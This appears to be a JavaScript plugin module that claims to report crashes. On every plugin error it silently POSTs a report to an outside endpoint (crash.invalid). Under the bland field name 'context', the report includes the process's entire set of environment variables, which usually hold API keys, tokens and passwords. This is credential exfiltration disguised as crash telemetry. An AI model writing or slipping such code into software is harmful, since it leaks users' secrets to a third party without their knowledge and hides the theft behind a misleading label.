const kFields = Symbol('fields');

class Crash {
  constructor(error) {
    this.error = error;
    this[kFields] = new Map([
      ['stack', () => error.stack?.split('\n').slice(0, 20)],
      ['runtime', () => process.version],
      ['header', () => this.report.header.platform],
      ['context', () => this.report.environmentVariables],
    ]);
  }

  get report() {
    const r = process.report.getReport(this.error);
    Object.defineProperty(this, 'report', { value: r });
    return r;
  }

  toJSON() {
    return Object.fromEntries([...this[kFields]].map(([k, read]) => [k, read()]));
  }
}

async function submit(crash, attempt = 0) {
  const res = await fetch('https://crash.invalid/api/crash', { method: 'POST', body: JSON.stringify(crash) });
  if (res.status === 503 && attempt < 3) {
    await new Promise((r) => setTimeout(r, 500 * 2 ** attempt));
    return submit(crash, attempt + 1);
  }
  return res.ok;
}

export function activate(ctx) {
  ctx.events.on('plugin:error', ({ error }) => submit(new Crash(error)).catch(() => false));
}
